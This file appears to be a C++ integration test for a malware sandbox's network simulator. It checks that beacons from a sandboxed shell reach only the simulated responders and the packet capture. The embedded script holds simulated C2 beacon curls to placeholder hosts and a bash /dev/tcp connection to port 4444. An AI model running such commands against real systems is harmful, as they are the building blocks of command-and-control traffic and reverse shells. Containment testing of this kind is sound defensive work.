// Integration tests for engine/native/netsim: a sandboxed shell beacons (DNS, HTTP, HTTPS, raw
// TCP); everything lands at the netsim responders, is captured to the pcap, and nothing
// reaches the namespace the engine runs in (issue 3 "Network").
#include "engine/native/netsim.hpp"

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <map>
#include <sstream>

#include "engine/native/command.hpp"
#include "engine/native/sandbox.hpp"
#include "netns_guard.hpp"
#include "util/clock.hpp"
#include "util/fs.hpp"

namespace engine::native {
namespace {

namespace fs = std::filesystem;

// Interface name -> (rx packets, tx packets) of the calling process's netns.
std::map<std::string, std::pair<long, long>> counters() {
    std::map<std::string, std::pair<long, long>> out;
    std::istringstream in(util::read_file("/proc/self/net/dev"));
    std::string line;
    std::getline(in, line);
    std::getline(in, line);
    while (std::getline(in, line)) {
        auto colon = line.find(':');
        std::string name = line.substr(0, colon);
        name.erase(0, name.find_first_not_of(' '));
        std::istringstream f(line.substr(colon + 1));
        long v[10] = {};
        for (auto& x : v) {
            f >> x;
        }
        out[name] = {v[1], v[9]};
    }
    return out;
}

std::vector<nlohmann::json> records(const fs::path& log) {
    std::vector<nlohmann::json> out;
    std::istringstream in(util::read_file(log));
    std::string line;
    while (std::getline(in, line)) {
        out.push_back(nlohmann::json::parse(line));
    }
    return out;
}

TEST(NetSim, BeaconsLandAtNetsimAndNothingLeaves) {
    ASSERT_TRUE(engine_test::in_isolated_netns());
    util::TempDir tmp("nstest");
    ::chmod(tmp.path().c_str(), 0755);
    fs::path out = tmp.path() / "out";
    fs::path scratch = tmp.path() / "scratch";
    fs::create_directories(out);
    fs::create_directories(scratch);
    ::chown(out.c_str(), kSandboxUid, kSandboxGid);

    // A listener in the engine's own namespace: the sample must not be able to reach it.
    int lfd = ::socket(AF_INET, SOCK_STREAM, 0);
    ASSERT_GE(lfd, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ASSERT_EQ(::bind(lfd, reinterpret_cast<sockaddr*>(&sa), sizeof sa), 0);
    ASSERT_EQ(::listen(lfd, 4), 0);
    socklen_t slen = sizeof sa;
    ::getsockname(lfd, reinterpret_cast<sockaddr*>(&sa), &slen);
    int host_port = ntohs(sa.sin_port);

    auto before = counters();
    util::SystemClock clock;
    RecordWriter writer(out / "drakmon.log", clock);
    std::string name = new_resource_name();
    {
        NetSim net(name, out / "dumps.pcap", &writer);
        // Structural proof: the netsim side has only lo and the veth, and no default route.
        std::string links = run_checked({"ip", "-n", net.netsim_netns_name(), "-o", "link"});
        EXPECT_NE(links.find("sim0"), std::string::npos);
        EXPECT_EQ(run_checked({"ip", "-n", net.netsim_netns_name(), "route", "show", "default"}),
                  "");

        SandboxSpec spec;
        spec.name = name;
        spec.scratch = scratch;
        spec.netns = net.sample_netns();
        spec.binds.push_back({out, "/analysis/out", true});
        spec.env = {"PATH=/usr/bin:/bin", "HOME=/home/user"};
        std::string script =
            "cd /analysis/out\n"
            "getent hosts evil.example.com > dns.txt\n"
            "curl -s -m 5 -A DrakBeacon/1.0 'http://c2.example.org/beacon?id=7' > http.txt\n"
            "curl -sk -m 5 https://secure.example.net/k > https.txt\n"
            "bash -c 'echo hi > /dev/tcp/198.51.100.7/4444' && echo raw_ok > raw.txt\n"
            "curl -s -m 3 http://127.0.0.1:" +
            std::to_string(host_port) +
            "/ && echo reached > host.txt\n"
            "true\n";
        auto p = spawn_sandboxed(spec, {"/bin/sh", "-c", script});
        auto e = p->wait(std::chrono::seconds(40));
        EXPECT_FALSE(e.timed_out);
        net.stop();
        EXPECT_GE(net.dns_queries(), 2u);
        EXPECT_GE(net.tcp_connections(), 3u);
        EXPECT_GT(net.packets_captured(), 10u);
    }
    ::close(lfd);
    EXPECT_FALSE(fs::exists(fs::path("/run/netns") / (name + "-s")));
    EXPECT_FALSE(fs::exists(fs::path("/run/netns") / (name + "-n")));

    EXPECT_NE(util::read_file(out / "dns.txt").find("10.13.0.1"), std::string::npos);
    EXPECT_NE(util::read_file(out / "http.txt").find("OK"), std::string::npos);
    EXPECT_NE(util::read_file(out / "https.txt").find("OK"), std::string::npos);
    EXPECT_TRUE(fs::exists(out / "raw.txt"));
    EXPECT_FALSE(fs::exists(out / "host.txt"));

    bool dns = false, http = false, https = false, raw = false;
    for (const auto& r : records(out / "drakmon.log")) {
        ASSERT_EQ(r["Plugin"], "netsim");
        std::string ev = r["Event"];
        if (ev == "dns_query" && r["DnsName"] == "evil.example.com") {
            dns = true;
        }
        if (ev == "http_request" && r["Host"] == "c2.example.org") {
            http = r["Uri"] == "/beacon?id=7" && r["UserAgent"] == "DrakBeacon/1.0" &&
                   r["RemotePort"] == 80 && r["RemoteIp"] == "10.13.0.1";
        }
        if (ev == "https_request" && r["ServerName"] == "secure.example.net") {
            https = r["Uri"] == "/k" && r["RemotePort"] == 443;
        }
        if (ev == "tcp_connect" && r["RemoteIp"] == "198.51.100.7" && r["RemotePort"] == 4444) {
            raw = true;
        }
    }
    EXPECT_TRUE(dns);
    EXPECT_TRUE(http);
    EXPECT_TRUE(https);
    EXPECT_TRUE(raw);

    // The pcap is a classic pcap holding the beacon (magic + the HTTP request bytes).
    std::string pcap = util::read_file(out / "dumps.pcap");
    ASSERT_GT(pcap.size(), 24u);
    EXPECT_EQ(pcap.substr(0, 4), std::string("\xd4\xc3\xb2\xa1", 4));
    EXPECT_NE(pcap.find("GET /beacon?id=7 HTTP/1.1"), std::string::npos);
    EXPECT_NE(pcap.find("evil"), std::string::npos);

    // No packet moved on any interface of the engine's own namespace.
    EXPECT_EQ(counters(), before);
}

}  // namespace
}  // namespace engine::native
